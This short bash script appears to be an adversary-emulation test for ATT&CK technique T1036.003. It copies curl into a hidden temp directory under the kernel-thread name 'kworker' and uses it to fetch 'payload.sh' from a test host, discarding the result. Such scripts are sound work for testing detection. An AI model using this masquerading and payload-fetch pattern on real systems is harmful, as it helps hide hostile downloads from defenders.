#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1036.003
# tactic: defense-evasion
# what: a system tool (curl) copied under a kernel thread's name and run from /tmp
. "$AT_LIB"
mkdir -p "$AT_TMP/.x"
cp /usr/bin/curl "$AT_TMP/.x/kworker"
"$AT_TMP/.x/kworker" -fsS -o /dev/null "$AT_HTTP/payload.sh"
